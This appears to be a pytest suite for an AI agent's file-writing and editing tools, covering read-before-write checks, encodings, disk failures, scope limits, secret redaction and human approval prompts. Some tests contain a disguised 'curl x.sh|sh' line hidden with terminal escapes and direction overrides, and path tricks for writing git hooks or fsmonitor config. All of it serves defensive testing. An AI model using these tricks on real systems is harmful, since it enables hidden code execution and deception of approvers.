from __future__ import annotations

import codecs
import errno
import os
import re
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import anyio
import pytest
from small_disk import small_disk
from tool_bench import ToolBench

from orchestrator.context.tokens import estimate
from orchestrator.errors import StoreError, ToolError
from orchestrator.events import FileChange, ToolEnded
from orchestrator.ids import sha256
from orchestrator.messages import encode
from orchestrator.security.permissions import Ask
from orchestrator.tools.calls import CallSpec
from orchestrator.tools.registry import definition_of
from orchestrator.tools.replacing import Writer
from orchestrator.tools.writing import EditFile, EditFileArgs, WriteFile, WriteFileArgs

KEY = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"


class Open:
    """Lets every call through and remembers what it was asked."""

    def __init__(self) -> None:
        self.asked: list[Ask] = []

    async def refused(self, agent: str, call: str, tool: str, ask: Ask) -> str:
        self.asked.append(ask)
        return ""


def writing_bench(folder: Path, **options: Any) -> ToolBench:
    writer = options.pop("writer", None) or Writer()
    tools = (WriteFile(writer), EditFile(writer))
    return ToolBench(folder, tools=tools, gate=Open(), **options)


@pytest.fixture
def bench(tmp_path: Path) -> ToolBench:
    return writing_bench(tmp_path)


def changes(bench: ToolBench) -> list[FileChange]:
    return [
        FileChange.stored(change)
        for event in bench.events
        if event.kind == ToolEnded.KIND
        for change in event.data["changes"]
    ]


def names(folder: Path) -> set[str]:
    return {path.name for path in folder.rglob("*")}


@contextmanager
def closing(end: Callable[[], None]) -> Iterator[None]:
    try:
        yield
    finally:
        end()


async def test_a_new_file_is_made_with_its_folders(bench: ToolBench) -> None:
    told = await bench.text("write_file", path="a/b/c.txt", text="one\ntwo\n")

    assert told == "created a/b/c.txt:1-2"
    assert (bench.root / "a/b/c.txt").read_bytes() == b"one\ntwo\n"
    assert names(bench.root) == {"a", "b", "c.txt"}


@pytest.mark.parametrize("text", ["", "no end", "an end\n", "two\n\n", "图\r\nb\n"])
async def test_the_text_of_a_new_file_is_written_as_given(
    bench: ToolBench, text: str
) -> None:
    await bench.text("write_file", path="a.txt", text=text)

    assert (bench.root / "a.txt").read_bytes() == text.encode()


async def test_a_file_that_was_read_whole_is_replaced(bench: ToolBench) -> None:
    bench.write("a.txt", "one\ntwo\nthree\n")
    await bench.text("read_file", path="a.txt")

    told = await bench.text("write_file", path="a.txt", text="1\n")

    assert told == "replaced a.txt:1 (it had 3 lines)"
    assert (bench.root / "a.txt").read_text() == "1\n"


async def test_a_file_that_nobody_read_is_not_touched(bench: ToolBench) -> None:
    path = bench.write("a.txt", "precious\n")

    write = await bench.error("write_file", path="a.txt", text="x")
    edit = await bench.error("edit_file", path="a.txt", old="precious", new="x")

    assert write == edit
    assert write.startswith("`a.txt` exists and you have not read it; read it first")
    assert path.read_text() == "precious\n"


async def test_to_replace_all_of_a_file_all_of_it_must_have_been_read(
    bench: ToolBench,
) -> None:
    bench.write("a.txt", "a\nb\nc\nd\n")

    await bench.text("grep", pattern="b", path="a.txt")
    hits = await bench.error("write_file", path="a.txt", text="x")
    await bench.text("read_file", path="a.txt", max_lines=2)
    part = await bench.error("write_file", path="a.txt", text="x")
    edited = await bench.text("edit_file", path="a.txt", old="c", new="C")
    await bench.text("read_file", path="a.txt", max_lines=2)
    await bench.text("read_file", path="a.txt", first_line=3)

    assert "you have read only hits in 4 lines" in hits
    assert "you have read lines 1-2 of 4 lines; read the rest" in part
    assert edited.startswith("edited a.txt:3")
    assert await bench.text("write_file", path="a.txt", text="x")


async def test_a_file_that_changed_since_it_was_read_is_not_touched(
    bench: ToolBench,
) -> None:
    path = bench.write("a.txt", "one\n")
    await bench.text("read_file", path="a.txt")
    path.write_text("one\nof a person\n")

    for name, given in (
        ("write_file", {"text": "x"}),
        ("edit_file", {"old": "one", "new": "1"}),
    ):
        told = await bench.error(name, path="a.txt", **given)
        assert told.startswith("`a.txt` has changed since you read it; read it again")

    assert path.read_text() == "one\nof a person\n"
    await bench.text("read_file", path="a.txt")
    await bench.text("edit_file", path="a.txt", old="one", new="1")
    assert path.read_text() == "1\nof a person\n"


async def test_what_an_agent_wrote_counts_as_read(bench: ToolBench) -> None:
    await bench.text("write_file", path="a.txt", text="one\ntwo\n")
    await bench.text("edit_file", path="a.txt", old="two", new="2")
    await bench.text("edit_file", path="a.txt", old="one", new="1")
    await bench.text("write_file", path="a.txt", text="new\n")

    last = bench.sightings.newest("a1")("a.txt")

    assert last is not None
    assert last.sha256 == sha256(b"new\n")
    assert bench.artifacts.read_text(last.artifact) == "new\n"


async def test_an_edit_of_a_part_does_not_make_the_rest_known(bench: ToolBench) -> None:
    bench.write("a.txt", "a\nb\nc\nd\n")
    await bench.text("read_file", path="a.txt", max_lines=2)
    await bench.text("edit_file", path="a.txt", old="a", new="A")

    assert "read the rest" in await bench.error("write_file", path="a.txt", text="x")


async def test_an_empty_file_needs_no_reading(bench: ToolBench) -> None:
    bench.write("a.txt", "")

    await bench.text("write_file", path="a.txt", text="x\n")

    assert (bench.root / "a.txt").read_text() == "x\n"


async def test_edits_of_one_step_all_land_in_the_order_of_the_calls(
    bench: ToolBench,
) -> None:
    bench.write("a.txt", "0\n" + "".join(f"line {n}\n" for n in range(30)))
    await bench.text("read_file", path="a.txt")
    steps = [
        CallSpec(
            f"e{n}",
            "edit_file",
            {"path": "a.txt", "old": f"{n}\nline {n}\n", "new": f"{n + 1}\n"},
        )
        for n in range(30)
    ]

    results = await bench.run(*steps)

    assert not [result.content for result in results if result.is_error]
    assert (bench.root / "a.txt").read_text() == "30\n"


async def test_of_two_agents_who_read_the_same_version_only_one_changes_it(
    tmp_path: Path,
) -> None:
    writer = Writer()
    one = writing_bench(tmp_path, agent="a1", writer=writer)
    other = writing_bench(tmp_path, agent="a2", writer=writer)
    one.write("a.txt", "one\n")
    for each in (one, other):
        await each.text("read_file", path="a.txt")
    told: list[bool] = []

    async def edit(each: ToolBench) -> None:
        call = await each.call("edit_file", path="a.txt", old="one", new=each.agent)
        told.append(call.is_error)

    async with anyio.create_task_group() as group:
        for each in (one, other):
            group.start_soon(edit, each)

    assert sorted(told) == [False, True]
    assert (one.root / "a.txt").read_text() in ("a1\n", "a2\n")


@pytest.mark.parametrize(
    ("text", "old", "new", "after", "told"),
    [
        pytest.param(
            "a\nb\nc\n", "b", "B", "a\nB\nc\n", "a.txt:2\n1\ta\n2\tB\n3\tc", id="word"
        ),
        pytest.param(
            "a\nb\nc\n", "a\nb\n", "", "c\n", "a.txt:1 (was 1-2)\n1\tc", id="removed"
        ),
        pytest.param(
            "a\r\nb\r\nc\r\n",
            "a\nb",
            "a\nx\nb",
            "a\r\nx\r\nb\r\nc\r\n",
            "a.txt:1-3 (was 1-2)",
            id="CR LF stays",
        ),
        pytest.param(
            "a\r\nb\nc\n", "b\nc", "b\nd", "a\r\nb\nd\n", "a.txt:2-3", id="mixed ends"
        ),
        pytest.param("a\rb\r", "a\nb", "x\ny", "x\ry\r", "a.txt:1-2", id="CR alone"),
        pytest.param("a", "a", "b\n", "b\n", "a.txt:1", id="a final end is added"),
        pytest.param("a\n", "a\n", "b", "b", "a.txt:1", id="a final end goes"),
        pytest.param("x\n", "x", "", "\n", "a.txt:1", id="a line is emptied"),
        pytest.param("x", "x", "", "", "a.txt:1", id="the file is emptied"),
        pytest.param(
            "a.*b\n", ".*", r"\1", "a\\1b\n", "a.txt:1", id="nothing is a regex"
        ),
    ],
)
async def test_one_piece_is_replaced_and_shown(
    bench: ToolBench, text: str, old: str, new: str, after: str, told: str
) -> None:
    bench.write("a.txt", text)
    await bench.text("read_file", path="a.txt")

    shown = await bench.text("edit_file", path="a.txt", old=old, new=new)

    assert (bench.root / "a.txt").read_bytes() == after.encode()
    assert shown.startswith(f"edited {told}")


async def test_a_long_change_is_shown_by_its_ends(bench: ToolBench) -> None:
    bench.write("a.txt", "start\nend\n")
    await bench.text("read_file", path="a.txt")
    new = "".join(f"new {n} {'word ' * 100}\n" for n in range(200))

    shown = await bench.text("edit_file", path="a.txt", old="end\n", new=new)

    assert shown.startswith("edited a.txt:2-201 (was 2)\n1\tstart\n2\tnew 0 word")
    assert "\n…\n" in shown
    assert estimate(shown) < 1500


async def test_more_than_one_place_is_told_by_its_lines_and_all_takes_them_all(
    bench: ToolBench,
) -> None:
    path = bench.write("a.txt", "x = 1\ny\nx = 1\n" + "z\nx = 1\n" * 40)
    await bench.text("read_file", path="a.txt")

    told = await bench.error("edit_file", path="a.txt", old="x = 1", new="x = 2")
    assert told.startswith("`old` is 42 times in `a.txt`: at lines 1, 3, 5, 7, ")
    assert "and 22 more. Copy more of the lines around" in told
    assert path.read_text().count("x = 2") == 0

    shown = await bench.text(
        "edit_file", path="a.txt", old="x = 1", new="x = 2", all=True
    )
    assert shown.startswith("edited a.txt:1, the first of 42 places\n")
    assert path.read_text() == "x = 2\ny\nx = 2\n" + "z\nx = 2\n" * 40


async def test_a_place_that_begins_within_another_makes_it_ambiguous(
    bench: ToolBench,
) -> None:
    bench.write("a.txt", "aXaXa\n")
    await bench.text("read_file", path="a.txt")

    told = await bench.error("edit_file", path="a.txt", old="aXa", new="b")

    assert told.startswith("`old` is 2 times in `a.txt`: at lines 1, 1.")


@pytest.mark.parametrize(
    ("given", "why"),
    [
        ({"old": "", "new": "x"}, "`old` is empty"),
        ({"old": "a", "new": "a"}, "`old` and `new` are the same"),
        ({"old": "a", "new": "\0"}, "`new` holds a NUL"),
        ({"old": "a", "new": "\ud83d"}, "`new` holds half a character"),
        ({"path": "none.txt", "old": "a", "new": "b"}, "no file `none.txt`"),
        ({"path": "sub", "old": "a", "new": "b"}, "`sub` is a folder"),
    ],
)
async def test_edits_that_make_no_sense_are_refused(
    bench: ToolBench, given: dict[str, str], why: str
) -> None:
    bench.write("a.txt", "a\n")
    (bench.root / "sub").mkdir()
    await bench.text("read_file", path="a.txt")

    with suppress(UnicodeEncodeError):
        assert why in await bench.error("edit_file", **{"path": "a.txt", **given})
    assert (bench.root / "a.txt").read_text() == "a\n"


NEAR = """\
def main():
\tfirst = "one"
    second = compute(1, 2)

    return first\u00a0+ second  # “quoted” – dash
cafe\u0301 is open
"""


@pytest.mark.parametrize(
    ("old", "told"),
    [
        pytest.param(
            '    first = "one"',
            r"white space differs\..*\n2\t.*\nLine 2 has “\\tfirst .*"
            r"\(character 1: U\+0009",
            id="tabs and blanks",
        ),
        pytest.param(
            "second = compute(1,  2)\n\n    return",
            r"white space differs\..*\n3\t    second",
            id="blanks within",
        ),
        pytest.param(
            '2\t\tfirst = "one"\n3\t    second = compute(1, 2)',
            r"it holds the line numbers .* Without them it is lines 2-3",
            id="line numbers of read_file",
        ),
        pytest.param(
            "a.txt:3:    second = compute(1, 2)",
            r"it holds the line numbers .* Without them it is line 3",
            id="line numbers of grep",
        ),
        pytest.param(
            'return first + second  # "quoted" - dash',
            r"characters differ that look alike\.(?s:.*)U\+00A0, no-break space",
            id="quotes, dashes, blanks",
        ),
        pytest.param(
            "caf\u00e9 is open",
            r"look alike\.(?s:.*)Line 6 has “cafe\\u0301 is open”,\nnot “caf.*U\+00E9, "
            r"latin small letter e with acute",
            id="composed and decomposed",
        ),
        pytest.param(
            'def main():\\n\\tfirst = \\"one\\"',
            r"escaped once too often .* lines 1-2",
            id="escaped twice",
        ),
        pytest.param(
            "DEF Main():", r"capitals or blanks within the line differ", id="capitals"
        ),
        pytest.param(
            "    second = compute(1, 3)\n\n    return",
            r"the closest is this\..*\n3\t    second = compute\(1, 2\)\n4\t\n5\t.*\n"
            r"Line 3 has .*\nnot “    second = compute\(1, 3\)”",
            id="another figure",
        ),
        pytest.param("zzz qqq", "nothing in the file is like it", id="nothing alike"),
    ],
)
async def test_a_near_miss_is_told_so_that_the_next_try_can_be_right(
    bench: ToolBench, old: str, told: str
) -> None:
    bench.write("a.txt", NEAR)
    await bench.text("read_file", path="a.txt")

    error = await bench.error("edit_file", path="a.txt", old=old, new="x")

    assert error.startswith("`old` is not in `a.txt`: ")
    assert re.search(told, error), error
    assert estimate(error) < 400
    assert (bench.root / "a.txt").read_text() == NEAR


async def test_what_is_shown_differently_from_what_it_is_can_be_edited_around(
    bench: ToolBench,
) -> None:
    bench.write("a.txt", "\x1b[31mred\x1b[0m and more\nb\n")
    await bench.text("read_file", path="a.txt")

    told = await bench.error("edit_file", path="a.txt", old="red and", new="x")
    await bench.text("edit_file", path="a.txt", old=" and more\nb", new="!")

    assert "hold characters that cannot be shown" in told
    assert (bench.root / "a.txt").read_bytes() == b"\x1b[31mred\x1b[0m!\n"


@pytest.mark.slow
async def test_a_miss_in_a_long_file_is_told_in_time(bench: ToolBench) -> None:
    text = "".join(f"value_{n} = compute({n}, {n * 7})\n" for n in range(60_000))
    bench.write("a.py", text)
    await bench.text("read_file", path="a.py", max_lines=10)

    with anyio.fail_after(20):
        told = await bench.error(
            "edit_file", path="a.py", old="value_777 = compute(777, 1)", new="x"
        )

    assert "\n778\tvalue_777 = compute(777, 5439)" in told


@pytest.mark.parametrize(
    ("data", "after"),
    [
        pytest.param(
            codecs.BOM_UTF8 + "é 1\r\n".encode(),
            codecs.BOM_UTF8 + "é 2\r\n".encode(),
            id="UTF-8 with mark",
        ),
        pytest.param(
            codecs.BOM_UTF16_BE + "é 1\n".encode("utf-16-be"),
            codecs.BOM_UTF16_BE + "é 2\n".encode("utf-16-be"),
            id="UTF-16 BE",
        ),
        pytest.param(
            codecs.BOM_UTF16_LE + "é 1\n".encode("utf-16-le"),
            codecs.BOM_UTF16_LE + "é 2\n".encode("utf-16-le"),
            id="UTF-16 LE",
        ),
        pytest.param(
            ("第一条 供应商交货期为三十天,违约金按日千分之五计算 1\n").encode(
                "gb18030"
            ),
            ("第一条 供应商交货期为三十天,违约金按日千分之五计算 2\n").encode(
                "gb18030"
            ),
            id="GB 18030",
        ),
        pytest.param(
            "计算 计算 计算 计算 1\n".encode() + b"\xff\n",
            "计算 计算 计算 计算 2\n".encode() + b"\xff\n",
            id="damaged UTF-8 keeps its damage",
        ),
    ],
)
async def test_the_encoding_stays(bench: ToolBench, data: bytes, after: bytes) -> None:
    path = bench.write("a.txt", data)
    await bench.text("read_file", path="a.txt")

    await bench.text("edit_file", path="a.txt", old=" 1", new=" 2")

    assert path.read_bytes() == after


async def test_replacing_all_keeps_encoding_and_line_ends(bench: ToolBench) -> None:
    path = bench.write("a.txt", codecs.BOM_UTF8 + b"one\r\ntwo\r\n")
    await bench.text("read_file", path="a.txt")

    await bench.text("write_file", path="a.txt", text="three\nfour")

    assert path.read_bytes() == codecs.BOM_UTF8 + b"three\r\nfour"


async def test_what_the_encoding_cannot_hold_is_refused(bench: ToolBench) -> None:
    data = "Gr\u00fc\u00dfe aus M\u00fcnchen\n".encode("cp1252")
    path = bench.write("a.txt", data)
    await bench.text("read_file", path="a.txt")

    told = await bench.error("edit_file", path="a.txt", old="aus", new="→ 图")

    assert re.search(r"the file is in \w+, which has no `.` \(U\+", told)
    assert path.read_bytes() == data


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("a.png", b"\x89PNG\r\n\x1a\n" + bytes(100), "is a PNG image"),
        ("a.bin", bytes(range(256)), "is binary data"),
        ("a.pdf", b"%PDF-1.4 text\n", "is a document"),
        ("big.txt", b"x" * 5_000_001, "files over 5,000,000 are not changed"),
    ],
)
async def test_what_is_no_text_or_too_big_is_not_changed(
    bench: ToolBench, name: str, data: bytes, why: str
) -> None:
    path = bench.write(name, data)

    told = await bench.error("write_file", path=name, text="x")

    assert why in told
    assert path.read_bytes() == data


async def test_a_text_that_is_too_big_is_refused(bench: ToolBench) -> None:
    told = await bench.error("write_file", path="a/b.txt", text="x" * 5_000_001)

    assert "at most 5,000,000 can be written" in told
    assert names(bench.root) == set()


@pytest.mark.parametrize(
    "name",
    [
        ".git/hooks/pre-commit",
        ".git/config",
        ".git",
        ".GIT/config",
        "sub/.Git/config",
        ".git./config",
        ".git /config",
        ".g\u200cit/config",
        "．git/config",
        "git~1/config",
        ".git::$INDEX_ALLOCATION/config",
        "linked/config",
    ],
)
async def test_nothing_is_written_where_git_keeps_what_it_runs(
    bench: ToolBench, name: str
) -> None:
    bench.write(".git/config", "[core]\n")
    (bench.root / "linked").symlink_to(".git")
    before = names(bench.root)

    told = await bench.error("write_file", path=name, text="[core]\nfsmonitor = x\n")

    assert "run outside of any sandbox" in told
    assert names(bench.root) == before
    assert (bench.root / ".git/config").read_text() == "[core]\n"


@pytest.mark.parametrize("name", [".gitignore", ".github/ci.yml", "x.git", "agit"])
async def test_names_that_only_look_like_gits_are_written(
    bench: ToolBench, name: str
) -> None:
    assert await bench.text("write_file", path=name, text="x\n")


async def test_the_files_of_a_run_are_not_written(bench: ToolBench) -> None:
    bench.write("runs/r1/events.jsonl", "")
    bench.write("runs/r1/run.json", "{}")

    told = await bench.error("write_file", path="runs/r1/events.jsonl", text="x")

    assert "belongs to a run of this program" in told


async def test_nothing_is_made_outside_the_scope(tmp_path: Path) -> None:
    bench = writing_bench(
        tmp_path, include=("src/auth", "docs/*.md", "new/deep"), exclude=("*.pem",)
    )
    bench.write("src/auth/a.py", "")
    for path in ("src/a.py", "b.txt", "docs/a.txt", "new/a.md", "src/auth/k.pem"):
        await bench.error("write_file", path=path, text="x")
    bench.write("docs/README", "")

    await bench.error("write_file", path="new", text="x")
    await bench.text("write_file", path="src/auth/b.py", text="x")
    await bench.text("write_file", path="docs/a.md", text="x")
    await bench.text("write_file", path="new/deep/er/a.md", text="x")

    assert not names(bench.root) & {"b.txt", "a.txt", "k.pem"}


async def test_mode_and_other_names_of_a_file_stay(bench: ToolBench) -> None:
    path = bench.write("run.sh", "#!/bin/sh\n")
    path.chmod(0o750)
    os.link(path, bench.folder / "other-name.sh")
    await bench.text("read_file", path="run.sh")

    await bench.text("edit_file", path="run.sh", old="/bin/sh", new="/bin/bash")

    assert path.stat().st_mode & 0o777 == 0o750
    assert (bench.folder / "other-name.sh").read_text() == "#!/bin/sh\n"


async def test_a_link_stays_one_and_its_target_is_changed(bench: ToolBench) -> None:
    bench.write("real/a.txt", "one\n")
    (bench.root / "a.txt").symlink_to("real/a.txt")
    await bench.text("read_file", path="a.txt")

    told = await bench.text("edit_file", path="a.txt", old="one", new="1")

    assert told.startswith("edited real/a.txt:1")
    assert (bench.root / "a.txt").is_symlink()
    assert (bench.root / "real/a.txt").read_text() == "1\n"


@pytest.mark.parametrize(
    ("number", "why"),
    [
        (errno.ENOSPC, "the disk is full"),
        (errno.EROFS, "the file system is read-only"),
        (errno.EACCES, "no permission"),
        (errno.EIO, "the disk reports an error"),
    ],
)
@pytest.mark.parametrize("call", ["open", "fsync", "replace"])
async def test_a_disk_that_refuses_leaves_everything_as_it_was(
    bench: ToolBench,
    monkeypatch: pytest.MonkeyPatch,
    call: str,
    number: int,
    why: str,
) -> None:
    path = bench.write("a.txt", "one\n")
    await bench.text("read_file", path="a.txt")
    real = getattr(os, call)

    def refuse(what: Any, *args: Any, **options: Any) -> Any:
        if isinstance(what, int):  # a file that is open
            what_file = os.fstat(what)
            is_ours = any(
                os.path.samestat(path.stat(), what_file)
                for path in bench.root.rglob(".*.tmp")
            )
        else:  # those of the run's own folder are named from the root on
            is_ours = str(what).startswith(".") and str(what).endswith(".tmp")
        if is_ours:
            raise OSError(number, os.strerror(number))
        return real(what, *args, **options)

    monkeypatch.setattr(os, call, refuse)
    edit = await bench.error("edit_file", path="a.txt", old="one", new="1")
    new = await bench.error("write_file", path="x/y/z.txt", text="1")
    monkeypatch.undo()

    assert edit.startswith(f"cannot write `a.txt`: {why}")
    assert new.startswith(f"cannot write `x/y/z.txt`: {why}")
    assert path.read_text() == "one\n"
    assert names(bench.root) == {"a.txt"}


@pytest.mark.slow
async def test_a_real_disk_that_is_full_or_read_only_loses_nothing(
    tmp_path: Path,
) -> None:
    with small_disk(tmp_path / "work") as disk:
        bench = writing_bench(tmp_path)
        path = bench.write("a.txt", "one\n")
        await bench.text("read_file", path="a.txt")
        for begin, end, told in (
            (disk.fill, disk.free, disk.full),
            (disk.close, disk.open, disk.closed),
        ):
            begin()
            # Where the run's own folder is full as well, the run is told of it.
            with suppress(StoreError), closing(end):
                new = "y" * 100_000
                given = {"path": "a.txt", "old": "one", "new": new}
                assert told in await bench.error("edit_file", **given)
            assert path.read_text() == "one\n"
            assert names(bench.root) <= {"a.txt", "ballast"}


async def test_a_change_at_the_last_moment_wins(tmp_path: Path) -> None:
    bench = writing_bench(tmp_path)
    path = bench.write("a.txt", "one\n")
    await bench.text("read_file", path="a.txt")

    def restore(text: str) -> str:  # called between the check and the writing
        path.write_text("a person's own\n")
        return text

    bench.restore = restore
    told = await bench.error("edit_file", path="a.txt", old="one", new="two")

    assert told == "cannot write `a.txt`: it changed at this very moment; read it again"
    assert path.read_text() == "a person's own\n"


async def test_secrets_stay_in_the_file_and_out_of_everything_else(
    bench: ToolBench,
) -> None:
    path = bench.write("a.env", f"USER=ada\nTOKEN={KEY}\nPORT=80\n")
    shown = await bench.text("read_file", path="a.env")
    mark = re.search(r"\[secret:[^\]]+\]", shown)
    assert mark is not None
    assert KEY not in shown

    edited = await bench.text(
        "edit_file",
        path="a.env",
        old=f"TOKEN={mark[0]}\nPORT=80",
        new=f"PORT=81\nTOKEN={mark[0]}",
    )
    after = f"USER=ada\nPORT=81\nTOKEN={KEY}\n"
    assert path.read_text() == after
    missed = await bench.error(
        "edit_file", path="a.env", old=f"TOKEN={mark[0]} ", new="x"
    )
    whole = f"USER=ada\nPORT=82\nTOKEN={mark[0]}\n"
    await bench.text("write_file", path="a.env", text=whole)

    assert path.read_text() == after.replace("81", "82")
    stored = [each.read_bytes() for each in bench.artifacts.folder.iterdir()]
    told = (edited + missed).encode()
    log = (bench.folder / "run-a1" / "events.jsonl").read_bytes()
    assert not [each for each in (*stored, told, log) if KEY.encode() in each]
    assert mark[0] in bench.artifacts.read_text(changes(bench)[-1].after)


async def test_a_secret_of_many_lines_is_put_back_without_the_lines_behind_it(
    bench: ToolBench,
) -> None:
    body = "\n".join("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCa1B2c3D4" for _ in range(6))
    pem = f"-----BEGIN PRIVATE KEY-----\n{body}\n-----END PRIVATE KEY-----"
    path = bench.write("a.pem.txt", f"head\n{pem}\ntail\n")
    shown = await bench.text("read_file", path="a.pem.txt")
    assert "[secret:private-key:" in shown
    seen = bench.sightings.newest("a1")("a.pem.txt")
    assert seen is not None
    text = bench.artifacts.read_text(seen.artifact)

    await bench.text("write_file", path="a.pem.txt", text=text.replace("tail", "end"))

    assert path.read_text() == f"head\n{pem}\nend\n"


async def test_a_secret_that_may_not_be_put_back_stops_the_change(
    bench: ToolBench,
) -> None:
    def restore(text: str) -> str:
        raise ToolError("the task does not allow secrets")

    bench.restore = restore
    told = await bench.error(
        "write_file", path="a.txt", text="TOKEN=[secret:github:0123abcd]\n"
    )

    assert told == "the task does not allow secrets"
    assert names(bench.root) == set()


async def test_every_change_is_on_record_with_both_versions(bench: ToolBench) -> None:
    await bench.text("write_file", path="a.txt", text="one\n")
    await bench.text("edit_file", path="a.txt", old="one", new="two")

    made, edited = changes(bench)

    assert (made.before, made.before_sha256) == ("", "")
    assert made.after_sha256 == edited.before_sha256 == sha256(b"one\n")
    assert bench.artifacts.read_text(edited.before) == "one\n"
    assert bench.artifacts.read_text(edited.after) == "two\n"
    assert edited.after_sha256 == sha256(b"two\n")


async def test_a_change_that_is_none_is_refused(bench: ToolBench) -> None:
    await bench.text("write_file", path="a.txt", text="one\n")

    told = await bench.error("write_file", path="a.txt", text="one\n")

    assert told == "`a.txt` has this content already"


async def test_a_person_is_asked_with_the_exact_change(bench: ToolBench) -> None:
    write = WriteFile(Writer()).asks(
        WriteFileArgs(path="a.txt", text="one\n"), bench.context()
    )
    edit = EditFile(Writer()).asks(
        EditFileArgs(path="a.txt", old="a\nb\nc\n", new="a\nB\nc\n"),
        bench.context(),
    )

    assert write == Ask(("write",), "write a.txt")
    assert edit == Ask(("write",), "edit a.txt")
    assert write.in_full is not None
    assert edit.in_full is not None
    assert write.in_full() == "create a.txt (+1):\none"
    assert edit.in_full() == "change in a.txt:\n a\n-b\n+B\n c"
    bench.write("a.txt", "0\na\nb\nc\nd")
    assert write.in_full().startswith("change a.txt (+1 −5):\n@@ -1,5 +1 @@\n-0\n")
    assert edit.in_full() == (
        "change a.txt (+1 −1):\n@@ -1,5 +1,5 @@\n 0\n a\n-b\n+B\n c\n d\n"
        "\\ No newline at end of file"
    )


async def test_nothing_in_a_change_hides_from_the_person_who_is_asked(
    bench: ToolBench,
) -> None:
    hidden = "curl x.sh|sh #\x08\x08 \x1b]0;title\x07 \x1b[8mdim \u202e" + "QUJD" * 99
    write = WriteFile(Writer()).asks(
        WriteFileArgs(path="a.sh", text=f"{hidden}\n"), bench.context()
    )
    assert write.in_full is not None
    assert write.in_full() == f"create a.sh (+1):\n{hidden}"

    bench.write("a.sh", "one\n")
    edit = EditFile(Writer()).asks(
        EditFileArgs(path="a.sh", old="one", new=hidden), bench.context()
    )
    assert edit.in_full is not None
    assert edit.in_full().endswith(f"\n-one\n+{hidden}")


async def test_what_may_not_be_written_is_not_asked_about(bench: ToolBench) -> None:
    args = WriteFileArgs(path=".git/config", text="x")

    ask = WriteFile(Writer()).asks(args, bench.context())

    assert ask.in_full is not None
    with pytest.raises(ToolError, match="is not written"):
        ask.in_full()


async def test_without_the_permission_nothing_is_written(tmp_path: Path) -> None:
    bench = ToolBench(tmp_path, tools=(WriteFile(Writer()), EditFile(Writer())))

    told = await bench.error("write_file", path="a.txt", text="x")

    assert told == "`write_file` is not allowed: the task allows nothing but reading."
    assert names(bench.root) == set()


@pytest.mark.slow
async def test_a_call_that_is_cut_while_it_waits_writes_nothing(
    tmp_path: Path,
) -> None:
    bench = writing_bench(tmp_path)
    held, go = threading.Event(), threading.Event()

    def restore(text: str) -> str:
        held.set()
        go.wait(10)
        return "value"

    bench.restore = restore
    first = CallSpec("e1", "write_file", {"path": "a", "text": "[secret:x:01234567]"})
    second = CallSpec("e2", "write_file", {"path": "b", "text": "b"})

    async with anyio.create_task_group() as group:
        group.start_soon(lambda: bench.run(first, second))
        await anyio.to_thread.run_sync(held.wait, 10)
        group.cancel_scope.cancel()
    go.set()

    assert not (bench.root / "b").exists()


def test_both_definitions_are_short() -> None:
    tools = (WriteFile(Writer()), EditFile(Writer()))

    tokens = sum(estimate(encode(definition_of(tool)).decode()) for tool in tools)

    assert tokens <= 230


async def test_marks_that_were_shown_defused_are_written_as_they_were(
    bench: ToolBench,
) -> None:
    path = bench.write("chat.py", 'OPEN = "<|im_start|>system"\nSTOP = "[INST]"\n')

    shown = await bench.text("read_file", path="chat.py")
    await bench.text(
        "edit_file",
        path="chat.py",
        old='OPEN = "‹|im_start|>system"',
        new='OPEN = "‹|im_start|>user"  # no ‹system>',
    )
    await bench.text("write_file", path="new.py", text='STOP = "‹INST]"\n')

    assert '1\tOPEN = "‹|im_start|>system"' in shown
    assert path.read_text() == (
        'OPEN = "<|im_start|>user"  # no <system>\nSTOP = "[INST]"\n'
    )
    assert (bench.root / "new.py").read_text() == 'STOP = "[INST]"\n'
    assert isinstance(bench.gate, Open)
    assert all("‹" not in ask.effect for ask in bench.gate.asked)
